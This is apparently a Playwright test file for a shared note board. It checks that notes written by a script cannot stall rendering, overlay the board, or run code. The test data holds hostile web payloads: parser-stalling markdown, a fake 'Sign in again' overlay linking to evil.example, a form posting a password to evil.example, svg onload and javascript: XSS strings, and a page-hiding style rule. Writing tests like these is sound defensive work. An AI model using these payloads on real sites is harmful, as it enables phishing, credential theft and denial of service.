/** Story 20: what one person writes on a board harms nobody else's. */
import { expect, type Page, test } from '@playwright/test';
import { addItem, itemsOf, type Note } from '../core/board/index.ts';
import { BoardClient } from '../server/api/testing/socket.ts';
import { ADA, newBoard, ORIGIN, stateOf } from './people.ts';
import { notes, writeNote } from './together.ts';
import { enter } from './views.ts';

test.use({ storageState: stateOf(ADA) });

/** The same person by a script, which may send what no page would. */
function scripted(page: Page, board: string): Promise<BoardClient> {
  const ask = async (method: string, route: string) => {
    const answer = await page.request.fetch(`/api/v1/${route}`, { method, headers: { origin: ORIGIN } });
    return { body: (await answer.json()) as unknown };
  };
  return BoardClient.open({ origin: ORIGIN, port: Number(new URL(ORIGIN).port) }, { ask }, board);
}

const note = (id: string, text: string, row: number): Note => ({
  ...{ id, kind: 'note', text, color: 0, order: row, locked: false, group: null, createdBy: 'x' },
  frame: { x: 0, y: row * 180, w: 260, h: 160 },
});

test('notes that a parser breaks on, or takes minutes for, are shown as they were written; the rest goes on', async ({
  page,
}) => {
  const path = await newBoard(page, 'Hostile notes');
  await enter(page, path);
  const script = await scripted(page, path.split('/').at(-1) ?? '');
  addItem(script.doc, note('deep', `deep ${'> '.repeat(1_800)}end`, 0));
  addItem(script.doc, note('slow', `slow ${'[a]('.repeat(4_000)}`, 1));
  addItem(script.doc, note('quotes', `${'> '.repeat(1_800)}quoted`, 2));
  addItem(script.doc, note('plain', '**still** drawn', 3));
  await script.saved();
  await expect(notes(page)).toHaveCount(4);
  await expect(notes(page).filter({ hasText: 'slow [a]([a](' })).toBeVisible();
  await expect(page.locator('strong', { hasText: 'still' })).toBeVisible();
  // The page answers meanwhile: it was never held up.
  await writeNote(page, 'written by hand');
  script.leave();
});

test('what a font takes minutes to set is drawn at once, and of a very long text the beginning', async ({
  page,
}) => {
  const path = await newBoard(page, 'Long to set');
  const script = await scripted(page, path.split('/').at(-1) ?? '');
  const runs = ['\\'.repeat(30_000), '[a]('.repeat(10_000), '1x'.repeat(9_000), 'a(b) '.repeat(4_000)];
  for (const [row, run] of runs.entries()) addItem(script.doc, note(`run${row}`, run, row));
  addItem(script.doc, note('long', 'lorem ipsum '.repeat(80_000), runs.length));
  addItem(script.doc, note('plain', '**still** drawn', runs.length + 1));
  await script.saved();
  await enter(page, path);
  await expect(notes(page)).toHaveCount(6);
  await expect(page.locator('strong', { hasText: 'still' })).toBeVisible();
  await expect(notes(page).filter({ hasText: '940,000 more characters are not shown' })).toHaveCount(1);
  // Set again in another width: the page answers within the time of a click.
  const begun = Date.now();
  await page.setViewportSize({ width: 1000, height: 700 });
  await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(resolve)));
  expect(Date.now() - begun).toBeLessThan(5_000);
  script.leave();
});

test('a note holds text and links, and nothing by which it could lie over a board', async ({ page }) => {
  const path = await newBoard(page, 'Sheets');
  await enter(page, path);
  const script = await scripted(page, path.split('/').at(-1) ?? '');
  const sheet =
    '<div class="fixed inset-0 z-50 bg-surface" id="sheet" style="position:fixed;inset:0"><a href="https://evil.example/sign-in">Sign in again</a></div>';
  const others = [
    '<dialog open>dialog</dialog><form action="https://evil.example"><input name="password"><button>send</button></form>',
    '<img src="https://evil.example/x.png"><svg onload="alert(1)"></svg><iframe src="/"></iframe><video autoplay></video>',
    '<p onclick="alert(1)" data-edit-note="x" aria-label="x">text</p>\n\n[js](javascript:alert(1)) [inside](/p/digits) <style>*{display:none}</style>',
  ];
  for (const [row, text] of [sheet, ...others].entries()) addItem(script.doc, note(`n${row}`, text, row));
  await script.saved();
  const link = page.getByRole('link', { name: 'Sign in again' });
  await expect(link).toBeVisible();
  await expect(link).toHaveAttribute('rel', 'external noopener noreferrer nofollow');
  await expect(link).toHaveAttribute('title', 'Leads out, to evil.example');
  await expect(page.getByRole('link', { name: 'inside' })).toHaveAttribute('href', '/p/digits');
  const drawn = notes(page).locator('.markdown');
  await expect(
    drawn.locator('[class], [id], [style], [onclick], [data-edit-note], [aria-label]'),
  ).toHaveCount(0);
  await expect(drawn.locator('dialog, form, input, button, img, svg, iframe, video, style, div')).toHaveCount(
    0,
  );
  await expect(drawn.locator('a[href^="javascript"]')).toHaveCount(0);
  script.leave();
});

test('an item beyond the canvas hides nothing: it is told, and can be brought back or removed', async ({
  page,
}) => {
  const path = await newBoard(page, 'Far away');
  const script = await scripted(page, path.split('/').at(-1) ?? '');
  addItem(script.doc, note('near', 'near', 0));
  addItem(script.doc, note('far', 'from far away', 1));
  itemsOf(script.doc).get('far')?.set('frame', { x: 1e308, y: 1e308, w: 100, h: 100 });
  addItem(script.doc, note('broken', 'broken', 2));
  itemsOf(script.doc).get('broken')?.set('color', 'red');
  await script.saved();
  await enter(page, path);
  await expect(notes(page).filter({ hasText: 'near' })).toBeVisible();
  const told = page.getByRole('region', { name: 'Items that cannot be shown' });
  await expect(told).toContainText('2 items of this board cannot be shown');
  await expect(told).toContainText('its place is outside the canvas');
  await told.getByRole('button', { name: 'Bring 1 here' }).click();
  await expect(notes(page).filter({ hasText: 'from far away' })).toBeVisible();
  await expect(told).toContainText(
    'An item of this board cannot be shown: parts of it are missing or wrong (color).',
  );
  // It stands where it lies, with its text.
  const card = page.locator('[data-unreadable="broken"]');
  await expect(card).toContainText('This item cannot be shown: parts of it are missing or wrong (color).');
  await expect(card.locator('pre')).toHaveText('broken');
  await told.getByRole('button', { name: 'Remove it' }).click();
  await expect(told).toHaveCount(0);
  await expect(card).toHaveCount(0);
  await expect(notes(page)).toHaveCount(2);
  script.leave();
});
